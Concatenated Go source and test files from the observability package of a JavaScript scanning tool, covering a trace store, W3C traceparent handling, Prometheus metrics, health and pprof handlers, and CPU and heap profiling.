			// +Inf bucket: clamp to the largest finite bound.
			if len(h.bounds) == 0 {
				return math.NaN()
			}
			return h.bounds[len(h.bounds)-1]
		}
		lo := 0.0
		if i > 0 {
			lo = h.bounds[i-1]
		}
		hi := h.bounds[i]
		if c == 0 {
			return hi
		}
		return lo + (hi-lo)*(rank-prev)/float64(c)
	}
	if len(h.bounds) == 0 {
		return math.NaN()
	}
	return h.bounds[len(h.bounds)-1]
}
