package obs

import (
	"context"
	"fmt"
	"path/filepath"
	"sort"
	"sync"
	"sync/atomic"
	"time"
)

// TraceStore defaults for TraceStoreOptions zero values.
const (
	// DefaultTraceCap bounds the recent-trace ring.
	DefaultTraceCap = 256
	// DefaultSlowTraceCap is the extra retention reserved for slow traces,
	// so a flood of fast requests never evicts the interesting ones.
	DefaultSlowTraceCap = 64
	// DefaultSlowThreshold marks a trace slow when a local root span
	// exceeds it.
	DefaultSlowThreshold = time.Second
	// DefaultMaxSpansPerTrace caps one trace's span list.
	DefaultMaxSpansPerTrace = 512
	// DefaultProfileDuration is how long an automatic slow-trace CPU
	// capture runs.
	DefaultProfileDuration = 5 * time.Second
	// slowProfileCooldown spaces automatic captures so a sustained overload
	// produces a few representative profiles, not a disk full of them.
	slowProfileCooldown = time.Minute
)

// SpanRecord is one finished span as retained by the trace store and
// rendered by /debug/traces — IDs are hex strings (trace: 32, span: 16) so
// they survive JSON float64 decoding and match W3C traceparent fields.
type SpanRecord struct {
	// Name is the span's operation name.
	Name string `json:"name"`
	// SpanID is the span's 16-hex-char id.
	SpanID string `json:"span_id"`
	// ParentID is the parent span's id, empty at a trace-local root.
	ParentID string `json:"parent_id,omitempty"`
	// Start is when the span began.
	Start time.Time `json:"start"`
	// DurationMS is the span's wall time in milliseconds.
	DurationMS float64 `json:"duration_ms"`
	// Attrs are the span's key/value annotations.
	Attrs []Attr `json:"attrs,omitempty"`
	// Events are the span's timestamped point annotations.
	Events []SpanEvent `json:"events,omitempty"`
	// Error is the failure message of a span marked with SetError.
	Error string `json:"error,omitempty"`
}

// Trace is one retained trace: every finished span sharing a trace ID.
// Spans from a re-delivered durable job join the submitting request's
// trace, so one Trace can span a crash and restart of the worker side.
type Trace struct {
	// ID is the 32-hex-char trace id.
	ID string `json:"trace_id"`
	// Root names the first process-local root span seen (the entry point).
	Root string `json:"root"`
	// Start is the earliest span start.
	Start time.Time `json:"start"`
	// DurationMS is the wall time from the earliest span start to the
	// latest span end.
	DurationMS float64 `json:"duration_ms"`
	// Slow marks traces whose local root exceeded the store's threshold.
	Slow bool `json:"slow"`
	// Dropped counts spans discarded past the per-trace cap.
	Dropped int `json:"dropped_spans,omitempty"`
	// Spans is the retained span list, sorted by start time.
	Spans []SpanRecord `json:"spans"`
}

// TraceSummary is the /debug/traces listing entry for one trace.
type TraceSummary struct {
	// ID is the 32-hex-char trace id.
	ID string `json:"trace_id"`
	// Root names the trace's entry-point span.
	Root string `json:"root"`
	// Start is the earliest span start.
	Start time.Time `json:"start"`
	// DurationMS is the trace's wall time in milliseconds.
	DurationMS float64 `json:"duration_ms"`
	// Spans counts retained spans.
	Spans int `json:"spans"`
	// Slow marks traces past the slow threshold.
	Slow bool `json:"slow"`
}

// TraceStoreOptions tunes a TraceStore; zero values select the defaults
// above.
type TraceStoreOptions struct {
	// Cap bounds the recent-trace ring; <= 0 means DefaultTraceCap.
	Cap int
	// SlowCap is the extra ring reserved for slow traces; <= 0 means
	// DefaultSlowTraceCap.
	SlowCap int
	// SlowThreshold marks a trace slow when a local root span exceeds it;
	// <= 0 means DefaultSlowThreshold.
	SlowThreshold time.Duration
	// MaxSpans caps one trace's retained spans; <= 0 means
	// DefaultMaxSpansPerTrace.
	MaxSpans int
	// ProfileDir enables automatic CPU capture: when a slow trace is
	// detected (and no capture is running, and the cooldown has passed) a
	// CPU profile of ProfileDuration is written to
	// ProfileDir/slowtrace-<traceid>.pprof. Empty disables.
	ProfileDir string
	// ProfileDuration bounds one automatic capture; <= 0 means
	// DefaultProfileDuration.
	ProfileDuration time.Duration
	// OnSlow, when non-nil, replaces the automatic-capture action entirely
	// (tests hook it); it runs synchronously under no lock.
	OnSlow func(traceID string, rootDuration time.Duration)
}

// TraceStore is a bounded in-process retention buffer of recent traces,
// the backing of /debug/traces. Two rings share it: a recent ring of
// capacity Cap evicted FIFO, and a slow ring of capacity SlowCap holding
// traces whose local root span exceeded SlowThreshold — the retention bias
// that keeps the requests worth debugging around even when fast traffic
// churns the recent ring in seconds. A slow trace can additionally trigger
// one automatic pprof CPU capture (rate-limited) so the cause of a latency
// excursion is captured while it is still happening.
//
// All methods are safe for concurrent use; record is called from Span.End
// and stays cheap (one mutex, no I/O).
type TraceStore struct {
	opts TraceStoreOptions

	mu        sync.Mutex
	m         map[string]*Trace
	order     []string // recent-ring FIFO of trace IDs
	slowOrder []string // slow-ring FIFO of trace IDs

	capturing   atomic.Bool
	lastCapture atomic.Int64 // unix nanos of the last capture start
	captures    atomic.Int64
}

// NewTraceStore builds a store with opts (zero values select defaults).
func NewTraceStore(opts TraceStoreOptions) *TraceStore {
	if opts.Cap <= 0 {
		opts.Cap = DefaultTraceCap
	}
	if opts.SlowCap <= 0 {
		opts.SlowCap = DefaultSlowTraceCap
	}
	if opts.SlowThreshold <= 0 {
		opts.SlowThreshold = DefaultSlowThreshold
	}
	if opts.MaxSpans <= 0 {
		opts.MaxSpans = DefaultMaxSpansPerTrace
	}
	if opts.ProfileDuration <= 0 {
		opts.ProfileDuration = DefaultProfileDuration
	}
	return &TraceStore{opts: opts, m: make(map[string]*Trace)}
}

type traceStoreCtxKey struct{}

// WithTraceStore routes spans ended under ctx into s.
func WithTraceStore(ctx context.Context, s *TraceStore) context.Context {
	if ctx == nil {
		ctx = context.Background()
	}
	if s == nil {
		return ctx
	}
	return context.WithValue(ctx, traceStoreCtxKey{}, s)
}

// TraceStoreFromContext returns the trace store carried by ctx, or nil
// (tracing disabled).
func TraceStoreFromContext(ctx context.Context) *TraceStore {
	if ctx == nil {
		return nil
	}
	s, _ := ctx.Value(traceStoreCtxKey{}).(*TraceStore)
	return s
}

// record retains one finished span. Called from Span.End.
func (s *TraceStore) record(sp *Span, d time.Duration) {
	id := sp.TraceID.String()
	end := sp.start.Add(d)
	rec := SpanRecord{
		Name:       sp.Name,
		SpanID:     FormatSpanID(sp.SpanID),
		Start:      sp.start,
		DurationMS: float64(d.Microseconds()) / 1000,
	}
	if sp.ParentID != 0 {
		rec.ParentID = FormatSpanID(sp.ParentID)
	}
	sp.mu.Lock()
	if len(sp.attrs) > 0 {
		rec.Attrs = append([]Attr(nil), sp.attrs...)
	}
	if len(sp.events) > 0 {
		rec.Events = append([]SpanEvent(nil), sp.events...)
	}
	if sp.failed {
		rec.Error = sp.errMsg
		if rec.Error == "" {
			rec.Error = "error"
		}
	}
	sp.mu.Unlock()

	slowRoot := !sp.local && d >= s.opts.SlowThreshold

	s.mu.Lock()
	tr, ok := s.m[id]
	if !ok {
		tr = &Trace{ID: id, Start: sp.start}
		s.m[id] = tr
		s.order = append(s.order, id)
	}
	if sp.start.Before(tr.Start) {
		tr.Start = sp.start
	}
	if endMS := float64(end.Sub(tr.Start).Microseconds()) / 1000; endMS > tr.DurationMS {
		tr.DurationMS = endMS
	}
	if !sp.local && tr.Root == "" {
		tr.Root = sp.Name
	}
	if len(tr.Spans) < s.opts.MaxSpans {
		tr.Spans = append(tr.Spans, rec)
	} else {
		tr.Dropped++
	}
	if slowRoot && !tr.Slow {
		tr.Slow = true
		// Move the trace from the recent ring to the slow ring so fast
		// traffic cannot evict it.
		for i, tid := range s.order {
			if tid == id {
				s.order = append(s.order[:i], s.order[i+1:]...)
				break
			}
		}
		s.slowOrder = append(s.slowOrder, id)
	}
	for len(s.order) > s.opts.Cap {
		delete(s.m, s.order[0])
		s.order = s.order[1:]
	}
	for len(s.slowOrder) > s.opts.SlowCap {
		delete(s.m, s.slowOrder[0])
		s.slowOrder = s.slowOrder[1:]
	}
	s.mu.Unlock()

	if slowRoot {
		if s.opts.OnSlow != nil {
			s.opts.OnSlow(id, d)
		} else {
			s.maybeCapture(id)
		}
	}
}

// maybeCapture starts one automatic CPU capture for a slow trace, unless
// disabled, already capturing, or within the cooldown window.
func (s *TraceStore) maybeCapture(traceID string) {
	if s.opts.ProfileDir == "" {
		return
	}
	last := s.lastCapture.Load()
	if last != 0 && time.Since(time.Unix(0, last)) < slowProfileCooldown {
		return
	}
	if !s.capturing.CompareAndSwap(false, true) {
		return
	}
	s.lastCapture.Store(time.Now().UnixNano())
	path := filepath.Join(s.opts.ProfileDir, "slowtrace-"+traceID+".pprof")
	stop, err := StartProfile("cpu", path)
	if err != nil {
		s.capturing.Store(false)
		DefaultLogger().Event(nil, LevelWarn, "trace.capture", "error", err.Error())
		return
	}
	s.captures.Add(1)
	DefaultLogger().Event(nil, LevelInfo, "trace.capture",
		"trace_id", traceID, "path", path,
		"duration", s.opts.ProfileDuration.String())
	go func() {
		time.Sleep(s.opts.ProfileDuration)
		if err := stop(); err != nil {
			DefaultLogger().Event(nil, LevelWarn, "trace.capture", "error", err.Error())
		}
		s.capturing.Store(false)
	}()
}

// Captures reports how many automatic slow-trace CPU captures have started.
func (s *TraceStore) Captures() int64 { return s.captures.Load() }

// Len reports how many traces are currently retained.
func (s *TraceStore) Len() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.m)
}

// Traces lists retained traces, newest first (slow and recent interleaved
// by start time).
func (s *TraceStore) Traces() []TraceSummary {
	s.mu.Lock()
	out := make([]TraceSummary, 0, len(s.m))
	for _, tr := range s.m {
		out = append(out, TraceSummary{
			ID: tr.ID, Root: tr.Root, Start: tr.Start,
			DurationMS: tr.DurationMS, Spans: len(tr.Spans), Slow: tr.Slow,
		})
	}
	s.mu.Unlock()
	sort.Slice(out, func(i, j int) bool { return out[i].Start.After(out[j].Start) })
	return out
}

// Get returns a copy of the trace with the given 32-hex-char id, spans
// sorted by start time (the waterfall order).
func (s *TraceStore) Get(id string) (Trace, bool) {
	s.mu.Lock()
	tr, ok := s.m[id]
	if !ok {
		s.mu.Unlock()
		return Trace{}, false
	}
	cp := *tr
	cp.Spans = append([]SpanRecord(nil), tr.Spans...)
	s.mu.Unlock()
	sort.Slice(cp.Spans, func(i, j int) bool { return cp.Spans[i].Start.Before(cp.Spans[j].Start) })
	return cp, true
}

// String renders a one-line census for logs.
func (s *TraceStore) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return fmt.Sprintf("tracestore{recent=%d slow=%d}", len(s.order), len(s.slowOrder))
}
