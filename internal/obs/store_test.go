package obs

import (
	"context"
	"fmt"
	"sync"
	"testing"
	"time"
)

// emitTrace ends one root span (optionally with a child) under the store
// and returns the trace id.
func emitTrace(store *TraceStore, name string, child bool) string {
	ctx := WithTraceStore(WithRegistry(context.Background(), NewRegistry()), store)
	ctx, root := StartSpan(ctx, name)
	if child {
		_, c := StartSpan(ctx, name+".child")
		c.End()
	}
	root.End()
	return root.TraceID.String()
}

func TestTraceStoreRetainsWaterfall(t *testing.T) {
	store := NewTraceStore(TraceStoreOptions{})
	id := emitTrace(store, "http.request", true)

	sums := store.Traces()
	if len(sums) != 1 || sums[0].ID != id || sums[0].Spans != 2 {
		t.Fatalf("summaries = %+v", sums)
	}
	if sums[0].Root != "http.request" {
		t.Errorf("root = %q, want http.request", sums[0].Root)
	}
	tr, ok := store.Get(id)
	if !ok || len(tr.Spans) != 2 {
		t.Fatalf("Get(%s) = %+v, %v", id, tr, ok)
	}
	// Waterfall order: spans sorted by start; the child links to the root.
	if tr.Spans[0].Name != "http.request" {
		t.Errorf("first span = %q, want the root", tr.Spans[0].Name)
	}
	if tr.Spans[1].ParentID != tr.Spans[0].SpanID {
		t.Errorf("child parent %q != root span %q", tr.Spans[1].ParentID, tr.Spans[0].SpanID)
	}
	if _, ok := store.Get("ffffffffffffffffffffffffffffffff"); ok {
		t.Error("unknown trace id found")
	}
}

func TestTraceStoreSlowRetentionBias(t *testing.T) {
	var slowMu sync.Mutex
	var slowIDs []string
	store := NewTraceStore(TraceStoreOptions{
		Cap:           4,
		SlowCap:       2,
		SlowThreshold: 10 * time.Millisecond,
		OnSlow: func(id string, d time.Duration) {
			slowMu.Lock()
			slowIDs = append(slowIDs, id)
			slowMu.Unlock()
		},
	})

	// One slow trace, then a flood of fast ones that churns the recent ring.
	ctx := WithTraceStore(WithRegistry(context.Background(), NewRegistry()), store)
	_, slow := StartSpan(ctx, "slow.request")
	time.Sleep(15 * time.Millisecond)
	slow.End()
	slowID := slow.TraceID.String()

	var fastIDs []string
	for i := 0; i < 20; i++ {
		fastIDs = append(fastIDs, emitTrace(store, fmt.Sprintf("fast-%d", i), false))
	}

	if _, ok := store.Get(slowID); !ok {
		t.Fatal("slow trace evicted by fast traffic; retention bias broken")
	}
	tr, _ := store.Get(slowID)
	if !tr.Slow {
		t.Error("slow trace not marked slow")
	}
	// The recent ring holds only its cap of the newest fast traces.
	for _, id := range fastIDs[:len(fastIDs)-4] {
		if _, ok := store.Get(id); ok {
			t.Errorf("old fast trace %s not evicted", id)
		}
	}
	for _, id := range fastIDs[len(fastIDs)-4:] {
		if _, ok := store.Get(id); !ok {
			t.Errorf("recent fast trace %s evicted", id)
		}
	}
	slowMu.Lock()
	defer slowMu.Unlock()
	if len(slowIDs) != 1 || slowIDs[0] != slowID {
		t.Errorf("OnSlow fired for %v, want [%s]", slowIDs, slowID)
	}
}

func TestTraceStoreSlowRingBounded(t *testing.T) {
	store := NewTraceStore(TraceStoreOptions{
		Cap: 2, SlowCap: 2, SlowThreshold: time.Nanosecond,
		OnSlow: func(string, time.Duration) {},
	})
	var ids []string
	for i := 0; i < 5; i++ {
		ctx := WithTraceStore(WithRegistry(context.Background(), NewRegistry()), store)
		_, sp := StartSpan(ctx, "slow")
		time.Sleep(time.Millisecond)
		sp.End()
		ids = append(ids, sp.TraceID.String())
	}
	if n := store.Len(); n != 2 {
		t.Fatalf("retained %d slow traces, want 2", n)
	}
	for _, id := range ids[3:] {
		if _, ok := store.Get(id); !ok {
			t.Errorf("newest slow trace %s evicted", id)
		}
	}
}

func TestTraceStoreLateSpansJoin(t *testing.T) {
	// A durable job's worker spans arrive after the submitting request's
	// root span ended (possibly after a crash): they must append to the
	// same trace.
	store := NewTraceStore(TraceStoreOptions{})
	ctx := WithTraceStore(WithRegistry(context.Background(), NewRegistry()), store)
	ctx, root := StartSpan(ctx, "serve.jobs")
	sc := root.Context()
	root.End()

	// "Restarted worker": no live parent span, only the persisted context.
	wctx := ContextWithRemote(WithTraceStore(
		WithRegistry(context.Background(), NewRegistry()), store), sc)
	_, worker := StartSpan(wctx, "job.run")
	worker.End()

	tr, ok := store.Get(root.TraceID.String())
	if !ok || len(tr.Spans) != 2 {
		t.Fatalf("trace = %+v, %v; want 2 spans in one trace", tr, ok)
	}
	if worker.TraceID != root.TraceID {
		t.Errorf("worker trace %s != original %s", worker.TraceID, root.TraceID)
	}
}

func TestTraceStorePerTraceSpanCap(t *testing.T) {
	store := NewTraceStore(TraceStoreOptions{MaxSpans: 3})
	ctx := WithTraceStore(WithRegistry(context.Background(), NewRegistry()), store)
	ctx, root := StartSpan(ctx, "root")
	for i := 0; i < 10; i++ {
		_, c := StartSpan(ctx, "child")
		c.End()
	}
	root.End()
	tr, _ := store.Get(root.TraceID.String())
	if len(tr.Spans) != 3 || tr.Dropped != 8 {
		t.Errorf("spans = %d, dropped = %d; want 3 retained, 8 dropped", len(tr.Spans), tr.Dropped)
	}
}

// TestTraceStoreConcurrent exercises the record path from many goroutines;
// meaningful under -race.
func TestTraceStoreConcurrent(t *testing.T) {
	store := NewTraceStore(TraceStoreOptions{Cap: 8, SlowCap: 2,
		SlowThreshold: time.Millisecond, OnSlow: func(string, time.Duration) {}})
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 50; i++ {
				emitTrace(store, "load", true)
				store.Traces()
			}
		}()
	}
	wg.Wait()
	if n := store.Len(); n > 10 {
		t.Errorf("store holds %d traces, cap is 8+2", n)
	}
}
