package obs

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"encoding/hex"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// Trace identity and propagation. Traces use 128-bit random IDs rendered as
// 32 lowercase hex characters — the W3C Trace Context format — so an
// external caller's traceparent header joins our spans to its trace, and
// our IDs are valid upstream. Span IDs stay process-local uint64s (cheap to
// issue, unique within a process) rendered as 16 hex characters on the
// wire, which is exactly the W3C parent-id width.

// TraceID is a 128-bit trace identifier. The zero value means "no trace".
type TraceID [16]byte

// IsZero reports whether the ID is the invalid all-zero ID (which the W3C
// spec also forbids on the wire).
func (t TraceID) IsZero() bool { return t == TraceID{} }

// String renders the ID as 32 lowercase hex characters.
func (t TraceID) String() string { return hex.EncodeToString(t[:]) }

// traceIDFallback seeds non-cryptographic fallback IDs if crypto/rand ever
// fails (a broken platform); uniqueness within the process still holds.
var traceIDFallback atomic.Uint64

// NewTraceID returns a random 128-bit trace ID.
func NewTraceID() TraceID {
	var t TraceID
	if _, err := rand.Read(t[:]); err != nil {
		binary.BigEndian.PutUint64(t[0:8], uint64(time.Now().UnixNano()))
		binary.BigEndian.PutUint64(t[8:16], traceIDFallback.Add(1))
	}
	return t
}

// ParseTraceID parses 32 hex characters into a TraceID. The all-zero ID is
// rejected, per the W3C spec.
func ParseTraceID(s string) (TraceID, bool) {
	var t TraceID
	if len(s) != 32 {
		return t, false
	}
	if _, err := hex.Decode(t[:], []byte(strings.ToLower(s))); err != nil {
		return TraceID{}, false
	}
	return t, !t.IsZero()
}

// FormatSpanID renders a span ID as 16 lowercase hex characters — the W3C
// parent-id width, and the form log lines and trace dumps use (uint64 JSON
// numbers above 2^53 lose precision through float64 decoding).
func FormatSpanID(id uint64) string {
	var b [8]byte
	binary.BigEndian.PutUint64(b[:], id)
	return hex.EncodeToString(b[:])
}

// SpanContext is the propagated remote half of a trace: the identity a
// caller handed us in a traceparent header, or the identity we persist into
// a durable job record so spans from the re-delivering worker join the
// submitting request's trace.
type SpanContext struct {
	// TraceID is the 128-bit trace this context belongs to.
	TraceID TraceID
	// SpanID is the parent span on the remote (or past) side.
	SpanID uint64
	// Sampled is the W3C sampled flag; we record regardless but echo it.
	Sampled bool
}

// Valid reports whether the context names a real trace.
func (sc SpanContext) Valid() bool { return !sc.TraceID.IsZero() }

// Traceparent renders the context in W3C form:
// "00-<32 hex trace-id>-<16 hex parent-id>-<2 hex flags>".
func (sc SpanContext) Traceparent() string {
	flags := "00"
	if sc.Sampled {
		flags = "01"
	}
	return "00-" + sc.TraceID.String() + "-" + FormatSpanID(sc.SpanID) + "-" + flags
}

// ParseTraceparent parses a W3C traceparent header. Unknown versions are
// accepted if the version-00 fields parse (per spec, forward compatibility);
// malformed headers, the all-zero trace ID, and the all-zero parent ID are
// rejected.
func ParseTraceparent(h string) (SpanContext, bool) {
	h = strings.TrimSpace(h)
	parts := strings.Split(h, "-")
	if len(parts) < 4 || len(parts[0]) != 2 || parts[0] == "ff" {
		return SpanContext{}, false
	}
	if _, err := hex.DecodeString(parts[0]); err != nil {
		return SpanContext{}, false
	}
	tid, ok := ParseTraceID(parts[1])
	if !ok {
		return SpanContext{}, false
	}
	if len(parts[2]) != 16 {
		return SpanContext{}, false
	}
	var sid [8]byte
	if _, err := hex.Decode(sid[:], []byte(strings.ToLower(parts[2]))); err != nil {
		return SpanContext{}, false
	}
	spanID := binary.BigEndian.Uint64(sid[:])
	if spanID == 0 {
		return SpanContext{}, false
	}
	if len(parts[3]) != 2 {
		return SpanContext{}, false
	}
	flags, err := hex.DecodeString(parts[3])
	if err != nil {
		return SpanContext{}, false
	}
	return SpanContext{TraceID: tid, SpanID: spanID, Sampled: flags[0]&1 == 1}, true
}

type remoteCtxKey struct{}

// ContextWithRemote attaches a remote span context to ctx: the next
// StartSpan without a local parent becomes a child of sc instead of a new
// trace root. A local parent span always wins over a remote one.
func ContextWithRemote(ctx context.Context, sc SpanContext) context.Context {
	if ctx == nil {
		ctx = context.Background()
	}
	if !sc.Valid() {
		return ctx
	}
	return context.WithValue(ctx, remoteCtxKey{}, sc)
}

// RemoteFromContext returns the remote span context carried by ctx, if any.
func RemoteFromContext(ctx context.Context) (SpanContext, bool) {
	if ctx == nil {
		return SpanContext{}, false
	}
	sc, ok := ctx.Value(remoteCtxKey{}).(SpanContext)
	return sc, ok
}

// maxStageEntries bounds one StageTimings table so a hostile input that
// manufactures unbounded span names cannot grow it without limit.
const maxStageEntries = 64

// StageTimings accumulates the durations of every span ended beneath one
// collection point, keyed by span name — the per-request counterpart of the
// aggregate span histograms, and the source of the per-stage timings an
// audit record carries. Attach one with WithStageTimings around a unit of
// work (the scan engine does this per script); spans started under that
// context add their duration on End. Safe for concurrent use.
type StageTimings struct {
	mu sync.Mutex
	m  map[string]time.Duration
}

// NewStageTimings returns an empty collection table.
func NewStageTimings() *StageTimings {
	return &StageTimings{m: make(map[string]time.Duration, 8)}
}

type stageCtxKey struct{}

// WithStageTimings routes the durations of spans ended under ctx into st.
func WithStageTimings(ctx context.Context, st *StageTimings) context.Context {
	if ctx == nil {
		ctx = context.Background()
	}
	return context.WithValue(ctx, stageCtxKey{}, st)
}

// stageTimingsFromContext returns the collection table carried by ctx, or nil.
func stageTimingsFromContext(ctx context.Context) *StageTimings {
	if ctx == nil {
		return nil
	}
	st, _ := ctx.Value(stageCtxKey{}).(*StageTimings)
	return st
}

// add accumulates one ended span; repeated names (a stage that runs more
// than once) sum. Nil-safe.
func (st *StageTimings) add(name string, d time.Duration) {
	if st == nil {
		return
	}
	st.mu.Lock()
	if _, ok := st.m[name]; ok || len(st.m) < maxStageEntries {
		st.m[name] += d
	}
	st.mu.Unlock()
}

// Snapshot returns a copy of the accumulated stage durations.
func (st *StageTimings) Snapshot() map[string]time.Duration {
	if st == nil {
		return nil
	}
	st.mu.Lock()
	defer st.mu.Unlock()
	out := make(map[string]time.Duration, len(st.m))
	for k, v := range st.m {
		out[k] = v
	}
	return out
}
