package obs

import (
	"errors"
	"flag"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

var updateGolden = flag.Bool("update-golden", false, "rewrite golden files")

// goldenRegistry builds a registry with one family of every kind, labelled
// and unlabelled series, and values needing careful formatting.
func goldenRegistry() *Registry {
	r := NewRegistry()
	r.Counter("jsrevealer_scan_files_total", "Files scanned by verdict.", Labels{"verdict": "benign"}).Add(12)
	r.Counter("jsrevealer_scan_files_total", "Files scanned by verdict.", Labels{"verdict": "malicious"}).Add(3)
	r.Counter("jsrevealer_build_total", "Unlabelled counter.", nil).Inc()
	r.Gauge("jsrevealer_scan_inflight", "In-flight scans.", nil).Set(2.5)
	r.Gauge("jsrevealer_info", "Multi\nline help.", Labels{"version": `v"1"` + "\\"}).Set(1)
	h := r.Histogram("jsrevealer_stage_duration_seconds", "Stage durations.",
		[]float64{0.001, 0.01, 0.1}, Labels{"stage": "parse"})
	h.Observe(0.0005)
	h.Observe(0.002)
	h.Observe(0.05)
	h.Observe(5)
	return r
}

func TestPrometheusExpositionGolden(t *testing.T) {
	var b strings.Builder
	if err := goldenRegistry().WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	got := b.String()

	golden := filepath.Join("testdata", "exposition.golden")
	if *updateGolden {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("golden file missing (run with -update-golden): %v", err)
	}
	if got != string(want) {
		t.Errorf("exposition drifted from golden file.\n--- got ---\n%s\n--- want ---\n%s", got, want)
	}
}

// TestPrometheusFormatInvariants checks structural validity independent of
// the golden file: every sample preceded by its TYPE line, cumulative
// bucket counts, a terminal +Inf bucket, and the histogram count matching
// its +Inf bucket.
func TestPrometheusFormatInvariants(t *testing.T) {
	var b strings.Builder
	if err := goldenRegistry().WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	typed := map[string]bool{}
	var prevBucket, infBucket, histCount uint64
	sampleValue := func(line string) uint64 {
		v, err := strconv.ParseUint(line[strings.LastIndexByte(line, ' ')+1:], 10, 64)
		if err != nil {
			t.Fatalf("unparsable sample %q: %v", line, err)
		}
		return v
	}
	for _, line := range strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n") {
		switch {
		case strings.HasPrefix(line, "# TYPE "):
			typed[strings.Fields(line)[2]] = true
		case strings.HasPrefix(line, "#"):
		default:
			name := line[:strings.IndexAny(line, "{ ")]
			base := strings.TrimSuffix(strings.TrimSuffix(strings.TrimSuffix(name, "_bucket"), "_sum"), "_count")
			if !typed[name] && !typed[base] {
				t.Errorf("sample %q appears before its TYPE line", line)
			}
			switch {
			case strings.HasSuffix(name, "_bucket"):
				v := sampleValue(line)
				if v < prevBucket {
					t.Errorf("bucket counts not cumulative at %q", line)
				}
				prevBucket = v
				if strings.Contains(line, `le="+Inf"`) {
					infBucket = v
					prevBucket = 0
				}
			case strings.HasSuffix(name, "_count"):
				histCount = sampleValue(line)
			}
		}
	}
	if infBucket == 0 {
		t.Fatal("histogram exposition missing +Inf bucket")
	}
	if histCount != infBucket {
		t.Errorf("histogram _count %d != +Inf bucket %d", histCount, infBucket)
	}
}

func TestMetricsHandler(t *testing.T) {
	srv := httptest.NewServer(MetricsHandler(goldenRegistry()))
	defer srv.Close()
	resp, err := srv.Client().Get(srv.URL)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if ct := resp.Header.Get("Content-Type"); !strings.Contains(ct, "text/plain") {
		t.Errorf("content type = %q", ct)
	}
}

func TestHealthHandler(t *testing.T) {
	srv := httptest.NewServer(HealthHandler())
	defer srv.Close()
	resp, err := srv.Client().Get(srv.URL)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Errorf("healthz = %d, want 200", resp.StatusCode)
	}
	bad := httptest.NewServer(HealthHandler(func() error { return errors.New("model not loaded") }))
	defer bad.Close()
	resp, err = bad.Client().Get(bad.URL)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 503 {
		t.Errorf("failing healthz = %d, want 503", resp.StatusCode)
	}
}
