package obs

import (
	"encoding/json"
	"net/http"
	"net/http/pprof"
)

// MetricsHandler serves r in Prometheus text exposition format, the
// /metrics endpoint of `jsrevealer serve`.
func MetricsHandler(r *Registry) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		r.WritePrometheus(w)
	})
}

// HealthHandler reports liveness as JSON. Each check is run per request;
// the first failure flips the status to 503 with the failing error.
func HealthHandler(checks ...func() error) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		for _, check := range checks {
			if err := check(); err != nil {
				w.WriteHeader(http.StatusServiceUnavailable)
				json.NewEncoder(w).Encode(map[string]string{
					"status": "unhealthy", "error": err.Error(),
				})
				return
			}
		}
		json.NewEncoder(w).Encode(map[string]string{"status": "ok"})
	})
}

// NewServeMux builds the standard exposition mux: /metrics over r,
// /healthz with the given checks, and the net/http/pprof profiling
// endpoints under /debug/pprof/.
func NewServeMux(r *Registry, checks ...func() error) *http.ServeMux {
	mux := http.NewServeMux()
	mux.Handle("/metrics", MetricsHandler(r))
	mux.Handle("/healthz", HealthHandler(checks...))
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	return mux
}
