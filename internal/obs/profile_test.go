package obs

import (
	"os"
	"path/filepath"
	"testing"
)

func TestStartProfile(t *testing.T) {
	dir := t.TempDir()

	stop, err := StartProfile("", "ignored")
	if err != nil || stop() != nil {
		t.Fatalf("disabled profile errored: %v", err)
	}

	cpu := filepath.Join(dir, "cpu.pprof")
	stop, err = StartProfile("cpu", cpu)
	if err != nil {
		t.Fatal(err)
	}
	// Burn a little CPU so the profile has something to sample.
	x := 0
	for i := 0; i < 1_000_000; i++ {
		x += i * i
	}
	_ = x
	if err := stop(); err != nil {
		t.Fatal(err)
	}
	if fi, err := os.Stat(cpu); err != nil || fi.Size() == 0 {
		t.Errorf("cpu profile not written: %v", err)
	}

	heap := filepath.Join(dir, "heap.pprof")
	stop, err = StartProfile("heap", heap)
	if err != nil {
		t.Fatal(err)
	}
	if err := stop(); err != nil {
		t.Fatal(err)
	}
	if fi, err := os.Stat(heap); err != nil || fi.Size() == 0 {
		t.Errorf("heap profile not written: %v", err)
	}

	if _, err := StartProfile("flame", filepath.Join(dir, "x")); err == nil {
		t.Error("unknown profile kind accepted")
	}
	if _, err := StartProfile("cpu", filepath.Join(dir, "missing", "x")); err == nil {
		t.Error("uncreatable path accepted")
	}
}
