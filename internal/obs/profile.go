package obs

import (
	"fmt"
	"os"
	"runtime"
	"runtime/pprof"
)

// StartProfile begins writing the given pprof profile kind to path and
// returns a stop function that finishes and closes the file. Supported
// kinds:
//
//	"cpu"  — StartCPUProfile now, stop on the returned function
//	"heap" — snapshot the heap (after a GC) when the returned function runs
//	""     — disabled; the stop function is a no-op
//
// The output file is created immediately for every kind so path errors
// surface before the profiled work runs.
func StartProfile(kind, path string) (stop func() error, err error) {
	if kind == "" {
		return func() error { return nil }, nil
	}
